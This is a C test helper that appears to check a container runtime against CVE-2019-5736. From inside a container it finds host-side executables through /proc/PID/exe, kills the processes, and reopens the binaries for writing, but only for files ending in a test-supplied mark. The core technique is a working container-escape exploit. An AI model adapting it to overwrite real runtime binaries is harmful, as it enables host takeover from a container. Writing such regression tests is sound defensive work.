/*
 * grab - CVE-2019-5736 from inside of a container: get hold of the executable of whoever enters, and write to it.
 *
 *   grab open SOCKET MARK    send each executable that can be had of /proc/PID/exe to SOCKET
 *   grab write SOCKET MARK   open what was sent, and what it can have itself, for writing
 *
 *   grab write-untraced ...  the same without CAP_SYS_PTRACE
 *
 * Only files that end in MARK count: nothing but the copy that the test has made is ever written to, or its process
 * killed. The process is killed because an executable cannot be written while it runs. "write" tells what happens, a
 * line each: "wrote", the name of the error of an open(2) for writing, "refused" where /proc/PID/exe of a process could
 * not be had. Both say "ready" first and end with their stdin.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define MAX_HELD	64

static const char added[] = "OVERWRITTEN";

static const char *mark;
static struct sockaddr_un place = { .sun_family = AF_UNIX };

static struct {
	int fd;
	bool done;
} held[MAX_HELD];

static size_t held_count;
static bool said_refused;

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static const char *name_of(int error)
{
	switch (error) {
	case EROFS:
		return "EROFS";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	default:
		return strerror(error);
	}
}

static int reopen(int fd, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, flags | O_CLOEXEC);
}

static bool ends_in_mark(int path_fd)
{
	char end[128];
	size_t length = strlen(mark);
	struct stat file;
	bool is = false;
	int fd = reopen(path_fd, O_RDONLY);

	if (fd < 0)
		return false;
	if (length <= sizeof(end) && fstat(fd, &file) == 0 && file.st_size > (off_t)length &&
	    pread(fd, end, length, file.st_size - (off_t)length) == (ssize_t)length)
		is = memcmp(end, mark, length) == 0;
	close(fd);
	return is;
}

static void send_fd(int sock, int fd)
{
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	char byte = 0;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr message = {
		.msg_name = &place,
		.msg_namelen = sizeof(place),
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = control.room,
		.msg_controllen = sizeof(control.room),
	};
	struct cmsghdr *head;

	memset(&control, 0, sizeof(control));
	head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(head), &fd, sizeof(fd));
	/* A full queue has as many as are needed. */
	if (sendmsg(sock, &message, MSG_DONTWAIT) < 0 && errno != EAGAIN)
		die("sendmsg");
}

static int receive_fd(int sock)
{
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	char byte;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr message = {
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = control.room,
		.msg_controllen = sizeof(control.room),
	};
	struct cmsghdr *head;
	int fd;

	if (recvmsg(sock, &message, MSG_DONTWAIT | MSG_CMSG_CLOEXEC) < 0)
		return -1;
	head = CMSG_FIRSTHDR(&message);
	if (!head || head->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(head), sizeof(fd));
	return fd;
}

static void hold(int fd)
{
	if (held_count == MAX_HELD) {
		close(fd);
		return;
	}
	held[held_count].done = false;
	held[held_count++].fd = fd;
}

static void look_at(const char *pid, int sock, bool writes)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (writes && !said_refused && (errno == EACCES || errno == EPERM)) {
			said_refused = true;
			puts("refused");
		}
		return;
	}
	if (!ends_in_mark(fd)) {
		close(fd);
		return;
	}
	if (writes) {
		hold(fd);
	} else {
		send_fd(sock, fd);
		close(fd);
	}
	/* Whoever may not does not need to: its opener may. */
	kill(atoi(pid), SIGKILL);
}

static void scan(int sock, bool writes)
{
	DIR *proc = opendir("/proc");
	const struct dirent *entry;

	if (!proc)
		die("/proc");
	while ((entry = readdir(proc)))
		if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
			look_at(entry->d_name, sock, writes);
	closedir(proc);
}

static void try_to_write(void)
{
	size_t i;

	for (i = 0; i < held_count; i++) {
		int fd;

		if (held[i].done)
			continue;
		fd = reopen(held[i].fd, O_WRONLY | O_APPEND);
		if (fd < 0 && errno == ETXTBSY)
			continue;
		held[i].done = true;
		if (fd < 0) {
			puts(name_of(errno));
		} else {
			if (write(fd, added, strlen(added)) == (ssize_t)strlen(added))
				puts("wrote");
			else
				puts(name_of(errno));
			close(fd);
		}
		close(held[i].fd);
	}
}

/* linux/capability.h is not there for every compiler of these programs. */
static void give_up_tracing(void)
{
	enum { VERSION = 0x20080522, SYS_PTRACE = 19 };
	struct {
		uint32_t version;
		int pid;
	} head = { VERSION, 0 };
	struct {
		uint32_t effective, permitted, inheritable;
	} sets[2];

	if (syscall(SYS_capget, &head, sets))
		die("capget");
	sets[0].effective &= ~(1U << SYS_PTRACE);
	sets[0].permitted &= ~(1U << SYS_PTRACE);
	if (syscall(SYS_capset, &head, sets))
		die("capset");
}

int main(int argc, char **argv)
{
	struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
	bool writes;
	int sock;

	if (argc != 4 || strlen(argv[2]) >= sizeof(place.sun_path))
		return 2;
	writes = !strncmp(argv[1], "write", strlen("write"));
	if (!strcmp(argv[1], "write-untraced"))
		give_up_tracing();
	strcpy(place.sun_path, argv[2]);
	mark = argv[3];
	setvbuf(stdout, NULL, _IOLBF, 0);
	sock = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (sock < 0)
		die("socket");
	if (writes) {
		unlink(place.sun_path);
		if (bind(sock, (struct sockaddr *)&place, sizeof(place)) || chmod(place.sun_path, 0777))
			die(place.sun_path);
	}
	puts("ready");
	while (poll(&input, 1, 0) == 0) {
		int fd;

		scan(sock, writes);
		while (writes && (fd = receive_fd(sock)) >= 0)
			hold(fd);
		try_to_write();
	}
	return 0;
}
